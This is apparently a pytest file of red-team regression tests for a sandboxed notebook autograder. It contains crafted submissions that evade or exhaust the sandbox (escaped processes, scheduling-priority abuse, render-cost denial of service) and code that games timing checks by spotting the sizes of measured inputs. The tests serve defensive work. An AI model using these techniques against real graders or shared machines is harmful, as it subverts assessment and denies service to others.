    data: the page was not made (``InvalidNotebook``, ``RuntimeError``). Safe: :func:`bpe_ref.course.printable.markdown_html`
    shows such an image as text saying it is not in the notebook; an attachment the cell holds is shown as before."""
    import nbformat

    png = "iVBORw0KGgo="
    cells = [nbformat.v4.new_markdown_cell("Before ![g](attachment:gone.png) after"),
             nbformat.v4.new_markdown_cell("![e](attachment:empty.png) ![p](attachment:p.png)",
                                           attachments={"empty.png": {}, "p.png": {"image/png": png}})]
    html = _instructor_page(template, cells)
    assert "[the image attachment:gone.png, not in the notebook]" in html
    assert "[the image attachment:empty.png, not in the notebook]" in html
    assert f'src="data:image/png;base64,{png}"' in html


# ---- 117. red53: a test cell's grade_id on a cell of no nbgrader marks: two test cells of one grade_id, not graded ------
#
# nbgrader's DeduplicateIds keeps one of the cells marked graded, a solution or read-only that share a grade_id (section
# 68), and reads no cell unmarked; the course's RestoringOverwriteCells then puts back the marks of every cell holding a
# grade_id of the lab's. A cell holding a test cell's grade_id and no marks ({"grade_id": ...}, or its marks false) beside
# the test cell so became a second test cell of that grade_id: nbgrader's CheckCellMetadata refused the notebook, "not
# graded" in both paths, for a reason the self-grade printed as "Traceback (most recent call last):".
def _unmarked_copies(notebook: dict, marks: dict) -> dict:
    """``notebook`` with, after each test cell, a code cell holding its grade_id with ``marks`` (none, or false)."""
    import copy

    from bpe_ref.course.trusted.cells import is_test_cell, nbgrader_of

    notebook, cells = copy.deepcopy(notebook), []
    for cell in notebook["cells"]:
        cells.append(cell)
        if is_test_cell(cell):
            grade_id = nbgrader_of(cell)["grade_id"]
            cells.append(code_cell(f"{grade_id}-again", "", {"grade_id": grade_id, **marks}))
    notebook["cells"] = cells
    return notebook


@pytest.mark.parametrize("marks", [{}, {"grade": False, "solution": False, "locked": False}], ids=["none", "false"])
def test_a_grade_id_on_a_cell_of_no_marks_beside_its_cell_leaves_the_notebook_graded(tmp_path, marks):
    """Lab 00's release with an unmarked copy of each test cell's grade_id after it: not graded (``NotGradable``). Safe:
    a cell holding a grade_id unmarked where another holds it marked (or a later one unmarked) is a plain cell
    (``NamedDeduplicateIds``, :func:`bpe_ref.course.trusted.cells.kept_grade_ids`): graded as the release is, the copies
    flagged by the review ("holds 2 cells marked ..."), which reads them as the plain cells autograde runs."""
    import json

    from test_grading_adversarial import blank

    from bpe_ref.course.grade import autograde_notebook
    from bpe_ref.course.trusted import cells as test_cells
    from bpe_ref.course.trusted.review import learner_cells, tampering

    lab = "00_pretokenization"
    notebook = _unmarked_copies(blank(lab), marks)
    path = tmp_path / f"{lab}.ipynb"
    path.write_text(json.dumps(notebook), encoding="utf-8")
    results = autograde_notebook(path, lab)
    assert [result.grade_id for result in results] == [cell.grade_id for cell in test_cells.load(lab)]
    assert sum(result.earned for result in results) == 0
    flags = tampering(notebook, blank(lab))
    grade_id = test_cells.load(lab)[0].grade_id
    assert any(flag.startswith(f"holds 2 cells marked {grade_id}") for flag in flags), flags
    assert f"{grade_id}-again" in {cell_id for cell_id, _ in learner_cells(notebook, blank(lab))}


# ---- 118. red53: what the instructor opens: many cells, each under its cell's bound, rendered at a cost per character ------
#
# The instructor's pages bound what each cell costs (section 39's HIGHLIGHTED_CHARS, sections 70 to 72's and 96's counts),
# none what a notebook's cells cost together: Pygments, bleach on the HTML it makes (the classic template's clean_html)
# and BeautifulSoup, which nbconvert's HTMLExporter parses the whole page with, took some 50 microseconds of CPU time a
# character of code, mistune and the rest 8 to 30 a character of markdown. 2,000 code cells of 19,990 characters (40 MB,
# under the exchange's 100 MB) cost about 35 minutes of CPU time a page: the formgrader serves every page from one
# thread, and generate_feedback renders the class one notebook after another.
SPAN_EACH_CHARACTER = ("a." * 10_000)[:19_990]


# One of the two pages a run, drawn (both under BPE_EXHAUSTIVE=1): both render the cells by the same bounded code.
@pytest.mark.parametrize("template", ["feedback", "formgrade"] if EXHAUSTIVE else [drawn("redteam: many cells", ["feedback", "formgrade"])])
def test_a_notebook_of_many_cells_each_under_its_bound_costs_a_page_a_bound(template):
    """40 code cells of :data:`SPAN_EACH_CHARACTER` (a span a character once highlighted) and 20 markdown cells of 20,000
    characters of emphasis: 50 s of CPU time a page (so some 35 minutes for 2,000 such cells). Safe: a page renders
    ``RENDERED_NOTEBOOK_CHARS`` (100,000; a lab's source notebook holds at most 33,000) of its cells' sources in
    all, highlighted or made HTML (:func:`bpe_ref.course.printable.code_html`, ``markdown_html``); the cells past them
    are shown as text, and the code Pygments highlights is not cleaned again by bleach (it holds Pygments' spans and
    escaped text only). The first cells are rendered as before."""
    import nbformat

    cells = [nbformat.v4.new_code_cell(SPAN_EACH_CHARACTER) for _ in range(40)]
    cells += [nbformat.v4.new_markdown_cell("*a* " * 5_000) for _ in range(20)]
    start = time.process_time()
    html = _instructor_page(template, cells)
    spent = time.process_time() - start
    assert spent < 15.0, f"{spent:.1f} s of CPU time for one page"
    assert '<span class="n">a</span><span class="o">.</span>' in html  # the first cells highlighted
    assert html.count("<em>a</em>") == 0 and html.count("<pre>*a* *a*") == 20  # the markdown cells, past the bound: text
    from bpe_ref.course.printable import RENDERED_NOTEBOOK_CHARS

    assert 40 * 19_990 > RENDERED_NOTEBOOK_CHARS


# ---- 119. red53: what the instructor opens: outputs whose terminal colours change at each character -------------------
#
# nbconvert's ansi2html writes a span at each change of an output's terminal colours, and its HTMLExporter parses the
# whole page again with BeautifulSoup (section 118): a notebook's cells keep 1,000,000 characters of what they printed
# (section 98), and printed with the colour changed at each character they made 166,000 spans, 8 s of CPU time a page.
COLOUR_EACH_CHARACTER = "\x1b[31mA\x1b[32mA" * 1_666  # 19,992 characters


@pytest.mark.parametrize("template", ["feedback", "formgrade"])
def test_outputs_coloured_at_each_character_cost_a_page_a_bound(template):
    """50 code cells, each with a stream of :data:`COLOUR_EACH_CHARACTER` (about as much as a stream keeps, 20,000):
    166,000 spans, 8 s of CPU time a page. Safe: ``nbgrader_config.py``'s ``ansi2html`` (:func:`bpe_ref.course.printable.
    ansi_html`) colours an output within the page's ``RENDERED_NOTEBOOK_CHARS``, as the cells' sources are counted; past
    them the text is escaped, its escape codes left out. Text without escape codes is escaped as nbconvert escapes it;
    the first outputs are coloured as before."""
    import nbformat

    cells = []
    for index in range(50):
        cell = nbformat.v4.new_code_cell(f"print({index})")
        cell.outputs = [nbformat.v4.new_output("stream", name="stdout", text=COLOUR_EACH_CHARACTER)]
        cells.append(cell)
    cells[0].outputs.append(nbformat.v4.new_output("stream", name="stderr", text="it's \"q\" <a> &\n"))
    start = time.process_time()
    html = _instructor_page(template, cells)
    spent = time.process_time() - start
    assert html.count('<span class="ansi-red-fg">A</span>') >= 5_000  # the first outputs coloured
    assert "it's \"q\" &lt;a&gt; &amp;" in html and "\x1b" not in html  # (BeautifulSoup writes the quotes again)
    assert html.count('<span class="ansi-') < 60_000, html.count('<span class="ansi-')
    assert spent < 4.0, f"{spent:.1f} s of CPU time for one page"


# ---- 120. fix54: a time limit whose timer outlives its block ---------------------------------------------------------
#
# running.time_limit was a generator's context manager: its timers were disarmed in the generator's finally, which runs
# only once contextlib's __exit__ has resumed the generator. A firing of the limit's timer as that __exit__ began (the
# call raised, or ended, just as the timer fired: its CPU time was past the limit) raised TookTooLong from __exit__
# itself, so the generator was never resumed: the timers stayed armed with the limit's handler, which went on raising
# TookTooLong four times a second into whatever ran next (held in a reference cycle of the call's error, the generator
# lived until a collection). An exhaustive run of tests/test_mistakes.py under load ended so, in an xdist INTERNALERROR
# raised while pytest wrote a failure's report. And a limit set inside another disarmed the outer one's timer as it was
# left: the outer limit was gone for the rest of its block, and one past its time while the inner ran was never told.


def _spin_cpu(seconds: float) -> None:
    end = time.process_time() + seconds
    while time.process_time() < end:
        pass


@contextlib.contextmanager
def _cpu_spent_as_the_limit_is_left(seconds: float):
    """At the first call of a function named ``__exit__`` (the innermost limit being left), spend ``seconds`` of CPU
    time there, before its first line: the limit's timer fires at that moment, as it does when a call ends just as its
    limit passes. What it does there (a raise) goes to that ``__exit__``, as a firing at its first instruction does."""
    previous, spent = sys.gettrace(), []

    def tracer(frame, event, arg):
        # the limit's own __exit__ (running.py's only one): any other run first (a finaliser's `with`, which a
        # collection may run at any call) would spend the CPU outside the limit; one CI run's call ended in no error
        if (event == "call" and frame.f_code.co_name == "__exit__" and frame.f_code.co_filename.endswith("running.py")
                and not spent):
            spent.append(frame.f_code.co_filename)
            sys.settrace(previous)
            _spin_cpu(seconds)
        return None

    sys.settrace(tracer)
    try:
        yield spent
    finally:
        sys.settrace(previous)


@pytest.mark.skipif(not hasattr(__import__("signal"), "setitimer"), reason="the kernel's time limit needs setitimer")
def test_a_time_limit_that_fires_as_its_block_is_left_raises_nothing_after_it():
    """A learner's call in the kernel (call_learner) returns, and the timer of its limit fires at the start of the limit's
    ``__exit__``, its CPU time past: on main its TookTooLong came out of contextlib's ``__exit__`` before the generator's
    finally, the outcome's error held the generator (as a failure's report holds the outcome), and the timer stayed armed
    with the limit's handler: a spin after the call got TookTooLong. Now a firing while a limit is being set or left
    raises nothing there: the limit notes it, and its block, which ended past its limit, ends in its TookTooLong; no
    timer or handler outlives it."""
    import gc
    import signal

    from test_mistakes import load_graders

    core = sys.modules[load_graders("01_naive_bpe").__name__.rsplit(".", 1)[0] + ".core"]  # as a test cell loads it
    TookTooLong, call_learner = core.TookTooLong, core.call_learner
    handler, hook = signal.getsignal(signal.SIGALRM), sys.unraisablehook
    try:
        with _cpu_spent_as_the_limit_is_left(0.8) as spent:
            outcome = call_learner(lambda: "done", (), time_limit_seconds=0.1)
        assert spent, "no __exit__ was called"
        assert isinstance(outcome.error, TookTooLong) and "within 0.1 s of CPU time" in str(outcome.error), outcome.error
        assert signal.getitimer(signal.ITIMER_REAL) == (0.0, 0.0), "the limit's timer is still armed after its block"
        assert signal.getsignal(signal.SIGALRM) is handler and sys.unraisablehook is hook
        _spin_cpu(0.8)  # past the timer's next firings, were it left armed: no TookTooLong out here
    finally:
        signal.setitimer(signal.ITIMER_REAL, 0)  # main's leak, undone for the tests after this one
        outcome = None
        gc.collect()
        signal.signal(signal.SIGALRM, handler)
        sys.unraisablehook = hook


@pytest.mark.skipif(not hasattr(__import__("signal"), "setitimer"), reason="the kernel's time limit needs setitimer")
def test_a_limit_set_inside_another_leaves_the_outer_one_in_force():
    """On main an inner limit's exit disarmed the timer the outer limit shared: the outer block then ran unlimited (a
    spin of 2 s under a limit of 0.2 s finished), and an outer limit that passed while the inner one ran was never told.
    Now each firing looks at every limit in force, the outermost first, and an inner one's exit re-arms the outer's; an
    outer limit's TookTooLong raised in an inner call_learner passes through it to the outer block."""
    from test_mistakes import load_graders

    core = sys.modules[load_graders("01_naive_bpe").__name__.rsplit(".", 1)[0] + ".core"]  # as a test cell loads it
    TookTooLong, call_learner, time_limit = core.TookTooLong, core.call_learner, core.time_limit
    for inner_spins in (False, True):
        started = time.process_time()
        with pytest.raises(TookTooLong, match="within 0.2 s of CPU time"):
            with time_limit(0.2):
                with time_limit(30):
                    if inner_spins:
                        _spin_cpu(2.0)
                _spin_cpu(2.0)
        assert time.process_time() - started < 1.5, inner_spins

    outcome = call_learner(lambda: call_learner(lambda: _spin_cpu(2.0), (), time_limit_seconds=30), (),
                           time_limit_seconds=0.2)
    assert isinstance(outcome.error, TookTooLong) and "within 0.2 s" in str(outcome.error), outcome.error



# ---- 121. fix54: a learner's walk, leftovers: a timed-out task's hint, the self-grade's words on the limits ---
#
# A task whose call may never return has a kernel time limit and a hint for it (its error_hint, on TookTooLong: lab 06's
# encode_pretoken, "does each round keep merge_word's result?"): the visible cell showed it in the learner's kernel, but
# graded, the worker's own limit stopped the call (GradingStopped) and the feedback said "did not finish within 30 s of
# CPU time" and no more, in the self-grade's table as in grade --class's feedback. And the self-grade printed the
# sandbox's mechanisms ("In force: Landlock ABI 4: ...; seccomp: ...; RLIMIT_AS ...") to a learner, who cannot read
# them.


def test_a_task_stopped_by_the_workers_time_limit_shows_its_kernel_hint():
    """walk53's encode_pretoken that drops merge_word's result loops for ever: graded in the worker (a call limit of 2 s
    of CPU time here, 30 s in a class), its visible test is stopped by the worker's limit. On main the message said only
    that; now it carries the task's hint for a call that never returns, and the self-grade's row shows it (the row's
    hint is the first ``hint:`` line of the test cell's error, as autograde writes it)."""
    from test_mistakes import LAB06_WALK53_ENDLESS, source_of

    from bpe_ref.course.checks import lab06_encode_decode as lab06
    from bpe_ref.course.grade import CellResult, format_table, group_by_task, hint_of
    from bpe_ref.course.trusted.autograde import _error_output, lab_policy

    cell, changes, _ = LAB06_WALK53_ENDLESS["encode-merge-result-dropped"]
    code = "\n".join(source_of("06_encode_decode", name) for name in ("setup", cell))
    for old, new in changes:
        assert old in code
        code = code.replace(old, new)
    messages = []
    from dataclasses import replace

    with Sandbox(replace(lab_policy(lab06, Policy()), call_timeout=2.0)) as box:
        assert box.run_cell(code, "mistake").ok
        for grader in (lab06.check_encode_pretoken, lab06.check_encode_pretoken_properties):
            with pytest.raises(GradingStopped) as stopped:
                grader(RemoteFunction(box, "encode_pretoken"))
            messages.append(str(stopped.value))
    assert "did not finish within 2 s of CPU time" in messages[0], messages[0]
    assert "not called" in messages[1], messages[1]  # stopped once: not called again in this notebook
    for message in messages:
        assert "\n  hint: encode_pretoken did not return: does each round keep merge_word's result" in message, message
    row = hint_of({"outputs": [_error_output("CheckFailed", messages[0])]})
    table = format_table(group_by_task([CellResult("task2_encode_pretoken", 0, 1, messages[0].splitlines()[0], row)]))
    assert "hint: encode_pretoken did not return" in table, table


ISOLATION_LINES = [
    "rlimits: 2048 MiB of memory, 900 s of CPU, files up to 64 MiB, no core dumps, 1024 open files a process",
    "Landlock ABI 7: files readable only in the standard library, allowed packages, system libraries and the scratch "
    "folder, writable only in the scratch folder; no TCP; no signals to processes outside the sandbox",
    "seccomp: no network sockets, no System V IPC or keyrings, no new processes (threads allowed), the worker loop's pipes "
    "(fds 1022 and 1023) neither replaced, closed nor made non-blocking; refused calls counted by the keeper",
    "capabilities: none (the grading user's dropped)",
]


def test_the_self_grade_says_its_limits_in_plain_words():
    """On main the self-grade's last line of isolation ended "In force: rlimits: ...; Landlock ABI 7: ...; seccomp: ...
    the worker loop's pipes (fds 1022 and 1023) ...": words a learner cannot read. Now it says what ran where, then the
    limits that apply to the learner's code, in seconds of CPU time and MB (from the grading's own record), and none of the
    mechanisms' names (the instructor reads those in the trusted record and nbgrader's log)."""
    from bpe_ref.course.grade import isolation_summary

    limits = {"call_seconds": 30.0, "cell_seconds": 30.0, "notebook_seconds": 300.0, "memory_mb": 2048}
    said = isolation_summary(ISOLATION_LINES, limits)
    assert said.startswith("Your code ran in a separate, locked-down process (no reference solution, no network, no other "
                           "processes, no files outside its own folder)."), said
    for jargon in ("In force", "rlimits", "Landlock", "seccomp", "fds", "ABI", "keeper", "capabilities"):
        assert jargon not in said, (jargon, said)
    assert ("Limits: 30 s of CPU time for each call of one of your functions and for each of your cells, 300 s for the "
            "whole notebook; 2048 MB of memory a process.") in said, said
    bare = isolation_summary(["rlimits: 2048 MiB of memory"], limits)
    assert "NOT locked down on this machine" in bare and "Landlock" not in bare, bare
    assert "Limits:" not in isolation_summary(ISOLATION_LINES, {}), "no limits recorded (an older record): none said"


# ---- 122. fix54: a how-check reading the worker's replies with no CPU limit --------------------------------------------
#
# Every case's check and every judge ran under running.CHECK_CPU_SECONDS (section 108), but the checks of *how* a
# function works, outside the cases (a TaskGraders' verify, hidden_verify, visible_then and hidden_then: measured growth,
# observes of a heap, ranges that start inside a character...), call the learner's function themselves and read its
# reply with no limit: a count_range honest on every case that returns a million empty lists nested 95 deep only for
# lab 10's range that starts inside a character cost the check 1.2 s of the grading process's CPU time for that one reply
# (decoded, made plain, shown; 2.3 s with its reading in the sandbox), past any limit of the notebook's: more for a check
# whose reading is slower. Now each how-check runs under
# running.HOW_CPU_SECONDS of the grading process's CPU time, the learner's calls aside (their own limits hold them).

DEEP_ONLY_INSIDE_A_CHARACTER = '''
_honest_count_range = count_range

def count_range(path, start, end, special_tokens):
    with open(path, "rb") as file:
        file.seek(start)
        first = file.read(1)
    if first and 0x80 <= first[0] < 0xC0:  # the range starts with the tail of a character: a reply costly to read
        counts = [[] for _ in range(1_000_000)]
        for _ in range(95):
            counts = (counts,)
        return counts
    return _honest_count_range(path, start, end, special_tokens)
'''


def test_a_how_check_reading_a_crafted_reply_ends_at_its_cpu_limit(monkeypatch):
    """The count_range above, graded by lab 10's hidden test for task 1 in the worker, with running.HOW_CPU_SECONDS set
    to 0.2 s here (20 s in a class), against the same hidden test of the honest count_range, each test's CPU time in
    the grading process counted as the limit counts it (its waits for the worker and the reply's reading there aside:
    sandbox.outside_the_limit): on main the how-check read the crafted reply for as long as it took (1.2 s more than
    the honest function's, 0.3 s) and failed telling what came back; now it fails at its limit, saying so and
    naming the check (the cases before it pass: the function is honest there)."""
    from test_mistakes import remote, source_of

    from bpe_ref.course.checks import running
    from bpe_ref.course.trusted import sandbox

    monkeypatch.setattr(running, "HOW_CPU_SECONDS", 0.2, raising=False)
    waited = [0.0]
    real_outside = sandbox.outside_the_limit

    @contextlib.contextmanager
    def outside_counted():
        start = time.process_time()
        try:
            with real_outside():
                yield
        finally:
            waited[0] += time.process_time() - start

    monkeypatch.setattr(sandbox, "outside_the_limit", outside_counted)
    honest = "\n".join(source_of("10_distributed", cell) for cell in ("setup", "task1_count_range_solution"))
    spent = []

    def hidden_test(graders, count_range) -> None:
        start, waited[0] = time.process_time(), 0.0
        try:
            graders.check_count_range_properties(count_range)
        finally:
            spent.append(time.process_time() - start - waited[0])

    assert remote("10_distributed", honest, "count_range", hidden_test) is None
    message = remote("10_distributed", honest + DEEP_ONLY_INSIDE_A_CHARACTER, "count_range", hidden_test)
    assert message is not None and "the grader's check of how it works (verify_range_not_utf8) ran out of its 0.2 s " \
        "of CPU time" in message, message
    assert message.startswith("count_range: "), message
    # The limit's own message is the evidence (main had none: its how-check read the reply for as long as it took). The
    # CPU time beside it is a loose bound only: under CI's load the same run measured 0.86 s more than honest, 0.21 s quiet.
    assert spent[1] - spent[0] < 1.5, f"the crafted reply cost the hidden test {spent[1] - spent[0]:.2f} s of CPU time more"


# ---- 123. the lead: mistakes that whole classes' seeds missed (tests/miss_rates.py) -------------------------------------
#
# tests/miss_rates.py grades each mistake no fixed case catches (and every mistake of labs 02, 04 and 05) under many
# secret seeds (100; 20 for labs 02, 04 and 05; 30 for 07 and 08). Three kept their hidden points under some: lab 00's
# pattern " *\p{L}+" (runs of spaces before a word: missed under 10 of 0-99), lab 05's set(nodes) for sorted (an (A, A)
# run across node 8: 10 of 0-19) and lab 07's rank taken as the pair's place in the dict (ranks numbered in the dict's
# order: 1 of 0-29). Each hidden test now checks inputs drawn from the seed that hold what tells them apart. The seeds
# that missed them: one of each by default (drawn from the run's sample seed), all under BPE_EXHAUSTIVE=1.
SEEDS_THAT_MISSED = {
    ("00_pretokenization", "pattern-spaces-of-any-number-before-a-word"): (22, 33, 38, 60, 65, 81, 89, 90, 91, 94),
    ("05_heap", "merge-nodes-deduplicated-by-a-set"): (1, 3, 5, 6, 9, 10, 12, 13, 14, 17),
    ("07_heap_encoding", "first-rank-by-place-in-dict"): (28,),
    # session 29, seeds 20 to 69: a merge_and_update that takes each occurrence's windows on its own, read from the word
    # before the merge (the words drawn held no pair at places that touch); now lab02_incremental.verify_touching_occurrences
    ("02_incremental", "update-inline-per-occurrence"): (39, 45),
}


@pytest.mark.parametrize("lab, label", sorted(SEEDS_THAT_MISSED))
def test_a_mistake_once_missed_by_a_class_s_seed_loses_its_hidden_points_under_it(lab, label):
    graders, solutions, _, _, mistaken = _generated_inputs_of(lab)
    verdicts = sys.modules[f"{type(graders.LAB).__module__.split('.course')[0]}.course.trusted.verdicts"]
    cell, name, changes = next((cell, name, changes) for found, cell, name, changes in _fixed_case_mistakes(lab)
                               if found == label)
    seeds = SEEDS_THAT_MISSED[lab, label]
    seeds = seeds if EXHAUSTIVE else (one_of(f"redteam123:{label}", seeds),)
    hidden_test = getattr(graders, f"check_{name}_properties")
    for seed in seeds:
        with verdicts.hidden_seed(seed), contextlib.redirect_stdout(None):
            assert _fails(lambda: hidden_test(mistaken(cell, name, changes))), f"{label} kept its hidden points under {seed}"
            hidden_test(solutions[name])  # and the solution passes there


# ---- 124. the lead: a process whose main thread ended, its other threads running, taken for a zombie -----------------
# The keeper kills every process under it when a grading ends, found by /proc's table of parents (keeper._descendants),
# which passed over zombies. A process whose main thread ends alone (SYS_exit, not exit_group) while another thread runs
# shows state Z: it was neither killed nor counted. Forked in lab 03 (processes allowed), out of the session (setsid)
# and so out of the trusted side's group kill, it outlived its grading with its thread (60 s here), and the review saw
# no process leave the session; a worker whose own main thread ended so held its files until the cell's backstop (10 s
# here, section 75: 20.7 s a test). Now a zombie with threads still running is a process like any other.
ZOMBIE_LEADER_OUT_OF_THE_SESSION = """
import ctypes, os, threading, time
libc = ctypes.CDLL(None, use_errno=True)
read_end, write_end = os.pipe()
if os.fork() == 0:
    os.setsid()
    def linger():
        time.sleep(0.3)  # the main thread has ended: the process shows state Z
        os.write(write_end, b"%d\\n" % os.getpid())
        time.sleep(60)
    threading.Thread(target=linger).start()
    libc.syscall(60, 0)  # SYS_exit: the main thread alone
os.close(write_end)
print(os.read(read_end, 64).decode().strip())
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="/proc and the keeper are Linux's")
def test_a_process_whose_main_thread_ended_is_killed_and_counted_when_its_grading_ends():
    """A forked process out of the session whose main thread ended while a thread runs on: before, the keeper took it
    for a zombie, left it running after the sandbox closed, and counted nothing; now it is killed and counted as a
    process that left the session."""
    with Sandbox(Policy(allow_processes=True, cell_timeout=20)) as box:
        if not confined(box):
            pytest.skip(f"not confined here ({'; '.join(box.isolation)})")
        run = box.run_cell(ZOMBIE_LEADER_OUT_OF_THE_SESSION, "zombie")
        assert run.ok and run.stdout.strip().isdigit(), run
        lingering = int(run.stdout.strip())
    report = box.behaviour()

    def still_running() -> bool:  # a thread of it still listed and not a zombie's
        try:
            tasks = os.listdir(f"/proc/{lingering}/task")
        except OSError:
            return False
        states = []
        for task in tasks:
            with contextlib.suppress(OSError):
                with open(f"/proc/{lingering}/task/{task}/stat", "rb") as stat:
                    states.append(stat.read().rsplit(b")", 1)[1].split()[0])
        return any(state not in (b"Z", b"X") for state in states)

    deadline = time.monotonic() + 5
    while still_running() and time.monotonic() < deadline:
        time.sleep(0.1)
    alive = still_running()
    if alive:
        os.kill(lingering, 9)
    assert not alive, f"process {lingering} outlived its grading"
    if report.get("left_session") is not None:
        assert report["left_session"] >= 1, report


# ---- 125. walk55's red team: the measured inputs told apart by their size or shape ------------------------------------
#
# Lab 00's and lab 06's growth checks measured inputs of fixed sizes and shapes (commit 8f8e0fa). A crafted submission
# kept each quadratic method of walk55 and answered those inputs another way, with full points in self-grade and in a
# class, unflagged: text.count(EOT) in (5_999, 47_999) for the split, in (499, 3_999) for the count, len(ranks) == 16 for
# encode_text, len(ids) in (20_000, 200_000) (or len(offsets) == 4097) for the decoder. The sizes now grow by a scale drawn
# from the grading's seed (measured.MeasuredGrowth's spread), lab 06's letters, merges and arenas are drawn too: each such
# submission meets its quadratic method on the measured inputs. (A submission that reads the graders can still go
# linear on the ranges they draw: from the short input's size to 20 times it, which is a linear method's work.)
SPLIT_LOOP = ("    pieces = []\n    while True:\n        best = None\n        for token in longest_first:\n"
              "            i = text.find(token)\n            if i != -1 and (best is None or i < best[0]):\n"
              "                best = (i, token)\n        if best is None:\n            pieces.append(text)\n"
              "            return pieces\n        i, token = best\n        pieces.append(text[:i])\n"
              "        text = text[i + len(token):]\n")
SIZE_TOLD = {
    ("00_pretokenization", "split-on-the-old-measured-sizes"): ("task2_split_on_special_tokens_solution", ((
        '    return regex.split(pattern, text)\n',
        '    if special_tokens == [EOT] and text.count(EOT) in (5_999, 47_999):\n        return regex.split(pattern, text)\n'
        + SPLIT_LOOP),)),
    ("00_pretokenization", "count-on-the-old-measured-sizes"): ("task4_count_pretokens_solution", ((
        "        counts[key] = counts.get(key, 0) + 1\n",
        "        if text.count(EOT) in (499, 3_999):\n            counts[key] = counts.get(key, 0) + 1\n"
        "        else:\n            counts = counts | {key: counts.get(key, 0) + 1}\n"),)),
    ("06_encode_decode", "text-on-the-old-measured-shape"): ("task3_encode_text_solution", ((
        "            tokens += encode_pretoken(pretoken.encode(\"utf-8\"), ranks)\n",
        "            if len(ranks) == 16 and len(text) > 10_000:\n"
        "                tokens += encode_pretoken(pretoken.encode(\"utf-8\"), ranks)\n"
        "            else:\n                tokens = tokens + encode_pretoken(pretoken.encode(\"utf-8\"), ranks)\n"),)),
    ("06_encode_decode", "decode-on-the-old-measured-sizes"): ("task5_decode_with_arena_solution", (
        ("    pieces = []\n", "    pieces, out = [], b''\n"),
        ("        pieces.append(buffer[offsets[token_id] : offsets[token_id + 1]])\n",
         "        if len(ids) in (20_000, 200_000) or len(offsets) == 4097:\n"
         "            pieces.append(buffer[offsets[token_id] : offsets[token_id + 1]])\n"
         "        else:\n            out += buffer[offsets[token_id] : offsets[token_id + 1]]\n"),
        ('    return b"".join(pieces)', '    return out + b"".join(pieces)'))),
}


@pytest.mark.parametrize("lab, label", sorted(SIZE_TOLD), ids=[label for _, label in sorted(SIZE_TOLD)])
def test_a_quadratic_method_that_answers_the_old_measured_sizes_another_way_loses_its_points(at_the_first_verdict, lab, label):
    skip_unless_lab_drawn(lab[:2], EVERY_LAB_NUMBER)
    graders, solutions, _, _, mistaken = _generated_inputs_of(lab)
    cell, changes = SIZE_TOLD[lab, label]
    name = cell.split("_", 1)[1].removesuffix("_solution")
    with at_the_first_verdict(), pytest.raises(AssertionError) as failed, contextlib.redirect_stdout(None):
        getattr(graders, f"check_{name}_properties")(mistaken(cell, name, changes))
    assert "quadratic" in str(failed.value) and "measured from outside your code" in str(failed.value), str(failed.value)


# ---- 126. walk58's red team: a boundary search that keeps its whole window, run in a child or as a bytearray ----------
# Lab 03 lets the learner's code start processes. The measured calls read the grading worker's own CPU time alone, so a
# search that keeps its whole window (one-byte special tokens: window[-0:]) run in a forked child measured 0.00 s and
# kept task 1's points; they now read the worker's whole tree (measured.worker_cpu_seconds). A bytearray extended in
# place, searched whole at each read, passed at 0.87 s under a bound of 0.96 s (3 MiB, 0.4 s + 8 times): 4 MiB and
# 0.2 s + 5 times since.
_WHOLE_WINDOW = '''
def _whole_window(path, desired_num_chunks, split_tokens, buffer_size=4096):
    overlap = max(len(t) for t in split_tokens) - 1
    with open(path, "rb") as f:
        size = f.seek(0, os.SEEK_END)
        chunk_size = size // desired_num_chunks
        boundaries = [0]
        for i in range(1, desired_num_chunks):
            start = max(i * chunk_size, boundaries[-1])
            f.seek(start)
            window, base, found = bytearray(), start, None
            while True:
                data = f.read(buffer_size)
                window.extend(data)
                limit = len(window) - overlap if data else len(window)
                hits = [j for j in (window.find(t) for t in split_tokens) if j != -1]
                if hits and min(hits) < limit:
                    found = base + min(hits)
                    break
                if not data:
                    break
                drop = len(window[:-overlap])
                del window[:-overlap]  # del window[:-0] deletes nothing
                base += drop
            boundaries.append(size if found is None else found)
        boundaries.append(size)
    return sorted(set(boundaries))
'''
_IN_A_CHILD = '''
def find_chunk_boundaries(path, desired_num_chunks, split_tokens, buffer_size=4096):
    import json
    read_end, write_end = os.pipe()
    pid = os.fork()
    if pid == 0:
        try:
            os.close(read_end)
            data = json.dumps(_whole_window(path, desired_num_chunks, split_tokens, buffer_size)).encode()
            while data:
                data = data[os.write(write_end, data):]
        finally:
            os._exit(0)
    os.close(write_end)
    out = b""
    while chunk := os.read(read_end, 65536):
        out += chunk
    os.close(read_end)
    os.waitpid(pid, 0)
    return json.loads(out)
'''


@pytest.mark.parametrize("where", ["in-the-worker", "in-a-forked-child"])
def test_in_the_worker_a_search_that_keeps_its_whole_window_loses_task_1(at_the_first_verdict, where):
    from test_mistakes import remote

    code = "import os\n" + _WHOLE_WINDOW + (_IN_A_CHILD if where == "in-a-forked-child" else
                                           "\nfind_chunk_boundaries = _whole_window\n")
    with at_the_first_verdict():
        message = remote("03_parallel", code, "find_chunk_boundaries", "verify_one_byte_window")
    assert message is not None, f"{where}: it passed"
    assert "measured from outside your code" in message and "window[-0:]" in message, message


# ---- 127. walk59's red team: a worker that lowers its own priority, and stalls the batch ------------------------------
#
# The CPU limits count the CPU time a worker gets, the backstops the wall time in which it neither ran nor waited for a
# CPU. A cell that made itself SCHED_IDLE, pinned to one CPU, and spun, on a grading machine whose CPUs other work kept
# busy (a container sharing its CPUs), got 0.3% of a CPU and was always waiting for one: neither moved, and the class
# batch behind it waited for hours, unflagged. Safe: the seccomp filter refuses any scheduling class or priority
# (sched_setscheduler, sched_setparam, sched_setattr, setpriority: confinement._SCHEDULING_CALLS), its own too; the
# keeper counts each refusal, which the class report flags.
LOWERS_ITS_PRIORITY = """
import os
outcomes = []
for name, call in (("SCHED_IDLE", lambda: os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))),
                   ("SCHED_BATCH", lambda: os.sched_setscheduler(0, os.SCHED_BATCH, os.sched_param(0))),
                   ("nice", lambda: os.nice(19)),
                   ("setpriority", lambda: os.setpriority(os.PRIO_PROCESS, 0, 19)),
                   ("sched_setparam", lambda: os.sched_setparam(0, os.sched_param(0)))):
    try:
        call()
        outcomes.append(f"{name}:done")
    except PermissionError:
        outcomes.append(f"{name}:refused")
print(*outcomes, os.sched_getscheduler(0) == os.SCHED_OTHER, os.getpriority(os.PRIO_PROCESS, 0))
"""


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="seccomp is Linux's")
@pytest.mark.parametrize("processes", [False, True], ids=["alone", "with processes"])
def test_a_worker_cannot_lower_its_own_scheduling_class_or_priority(processes):
